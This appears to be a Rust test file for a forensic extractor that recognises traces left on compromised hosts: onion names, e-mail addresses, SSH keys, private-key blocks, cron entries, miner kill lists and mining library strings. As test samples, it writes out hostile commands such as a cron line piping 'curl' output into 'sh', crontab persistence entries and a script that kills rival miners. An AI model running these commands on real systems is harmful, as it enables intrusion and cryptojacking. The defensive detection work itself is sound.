//! Traces of people and of tools: onion names, e-mail, keys, cron, competitors, libraries.

use super::{all_of, carve, none_of, of, shown};

const ONION: &str = "aaaqeayeaudaocajbifqydiob4ibceqtcqkrmfyydenbwha5dyp3kead.onion";
const ED25519: &str =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f";
const RSA: &str = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQABCA8WHSQrMjlAR05VXGNqcXh/ho2Um6KpsLe+xczT2uHo7/b9BAsSGSAnLjU8Q0pRWF9mbXR7gomQl56lrLO6wcjP1t3k6/L5AAcOFRwjKjE4P0ZNVFtiaXB3foWMk5qhqK+2vcTL0tng5+71/AMKERgfJi00O0JJUFdeZWxzeoGIj5adpKuyucDHztXc4+rx+P8GDRQbIikwNz5FTFNaYWhvdn2Ei5KZoKeutbzDytHY3+bt9PsCCRAXHiUsMzpBSE9WXWRrcnmAh46VnKOqsbi/xs3U2+Lp8Pf+BQwTGiEoLzY9REtSWWBnbnV8g4qRmJ+mrbS7wsnQ197l7PP6";

#[test]
fn onion_names_by_their_checksum() {
    all_of("onion", &[(ONION, ONION), ("expyuzz4wqqyqhjn.onion", "expyuzz4wqqyqhjn.onion")]);
    assert_eq!(of(&format!("socks5 {}:8080", ONION.to_uppercase()), "onion"), [ONION]);
    let wrong = ONION.replacen('a', "b", 1);
    none_of(
        &["onion"],
        &[
            &wrong,
            "a.onion",
            "scalliondressing.onion",
            "soup.onion.example.org",
            "red.onions",
            ".onion",
        ],
    );
}

#[test]
fn mail_addresses_that_lead_to_someone() {
    all_of(
        "email",
        &[
            ("user: someone.else+rig1@mailbox.top,", "someone.else+rig1@mailbox.top"),
            ("write to <pay-here@Protonmail.com>", "pay-here@protonmail.com"),
            ("\"user\":\"miner@proton.me\"", "miner@proton.me"),
        ],
    );
    none_of(
        &["email"],
        &[
            "getty@tty1.service",
            "user@1000.service",
            "printf@@GLIBC_2.2.5",
            "memcpy@GLIBC_2.14",
            "icon@2x.png",
            "git@github.com:owner/project.git",
            "bug-bash@gnu.org",
            "root@localhost",
            "lodash@4.17.21",
            "ssh-ed25519@openssh.com",
            "dev-disk.swap@x.socket",
            "a@b.co",
        ],
    );
}

#[test]
fn public_keys_by_fingerprint() {
    let line = format!("{ED25519} intruder@box");
    let found = carve(&line);
    let key = found.iter().find(|c| c.kind == "ssh-key").unwrap();
    assert_eq!(key.value, b"ssh-ed25519 SHA256:ZkAslGjFiUHdGf/WUL8rQvkib4PTvQatUV0OUQSncCA");
    assert_eq!(key.detail.as_deref(), Some("intruder@box"));
    let options = format!("command=\"/bin/sh\",no-pty {RSA} \n");
    assert_eq!(
        of(&options, "ssh-key"),
        ["ssh-rsa SHA256:sKW4cYI9UpMCu9qhp0ugnQPNu7PBvSrOYa6tzJiTABI"]
    );
    let cut = RSA.get(..60).unwrap();
    assert_eq!(of(cut, "ssh-key"), ["ssh-rsa"], "{}", shown(&carve(cut)));
    none_of(
        &["ssh-key"],
        &[
            "ssh-rsa AAAA",
            "ssh-ed25519 AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
            "key types: ssh-rsa ssh-ed25519 ecdsa-sha2-nistp256",
        ],
    );
}

#[test]
fn private_keys_are_told_and_not_shown() {
    let body = "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW";
    for text in [
        format!("-----BEGIN OPENSSH PRIVATE KEY-----\n{body}\n-----END OPENSSH PRIVATE KEY-----\n"),
        format!("{{\"key\":\"-----BEGIN OPENSSH PRIVATE KEY-----\\n{body}\\n-----END\"}}"),
    ] {
        let found = carve(&text);
        let key = found.iter().find(|c| c.kind == "private-key").unwrap();
        assert!(key.value.starts_with(b"OPENSSH PRIVATE KEY "), "{}", shown(&found));
        let shown = String::from_utf8_lossy(&key.context).into_owned();
        assert!(!shown.contains("b3Blbn"), "{shown}");
    }
    none_of(
        &["private-key"],
        &[
            "-----BEGIN RSA PRIVATE KEY-----\0-----END RSA PRIVATE KEY-----\0",
            "BEGIN PRIVATE KEY-----\nx",
        ],
    );
}

#[test]
fn lines_of_cron() {
    for line in [
        "* * * * * root /usr/sbin/.x/update",
        "*/5 * * * * /tmp/.x/run >/dev/null 2>&1",
        "0 3 * * * curl -s http://198.51.100.7/a | sh",
        "@reboot /var/tmp/.k/kworker",
        "@daily root /opt/.cache/u",
    ] {
        assert_eq!(of(line, "cron"), [line], "{}", shown(&carve(line)));
    }
    let written = "(crontab -l; echo \"*/10 * * * * /tmp/.a/b\") | crontab -";
    assert_eq!(of(written, "cron"), ["*/10 * * * * /tmp/.a/b"]);
    none_of(
        &["cron"],
        &[
            "/* * * * * comment of a program */",
            " * * * * * * * *",
            "a * * * b",
            "# Example of job definition: .---- minute * * * * * user-name command to be executed",
            "write to someone@reboot now",
            "@daily is a word that cron knows",
            "5 * * * * x",
        ],
    );
}

#[test]
fn lists_of_competitors() {
    let script = "pkill -f kinsing\npkill -f kdevtmpfsi\nkillall xmrig\nps aux|grep -v grep|grep watchbog|awk '{print $2}'|xargs kill -9\n";
    assert_eq!(of(script, "kill-list"), ["kdevtmpfsi kinsing watchbog xmrig"]);
    let strings = "kdevtmpfsi\0kinsing\0watchbog\0xmrigDaemon\0minerd\0kthrotlds\0";
    let found = carve(strings);
    assert_eq!(of(strings, "kill-list").len(), 1, "{}", shown(&found));
    none_of(
        &["kill-list"],
        &[
            "pkill -f kinsing",
            "pkill nginx; pkill -HUP sshd; killall -q chronyd; kill -9 $PID",
            "the kinsing family drops kdevtmpfsi, see the report",
        ],
    );
}

#[test]
fn libraries_by_version_and_message() {
    for (text, value) in [
        ("User-Agent: libcurl/7.88.1 OpenSSL/3.0", "libcurl/7.88.1"),
        ("libuv/1.44.2", "libuv/1.44.2"),
        ("hwloc/2.9.0", "hwloc/2.9.0"),
        ("XMRig/6.21.0 (Linux x86_64)", "XMRig/6.21.0"),
        ("SRBMiner-MULTI/2.4.4", "SRBMiner-MULTI/2.4.4"),
        ("RandomX\u{3}\0", "RandomX"),
        ("\0randomx_create_vm\0", "RandomX"),
        ("$Info: This file is packed with the UPX executable packer http://upx.sf.net $", "UPX"),
    ] {
        assert_eq!(of(text, "library"), [value], "in {text:?}{}", shown(&carve(text)));
    }
    none_of(
        &["library"],
        &[
            "RandomX is an algorithm",
            "/opt/xmrig/config.json",
            "libuv/test",
            "hwloc/xml",
            "libcurl/examples.c",
            "minerd cpuminer",
        ],
    );
}
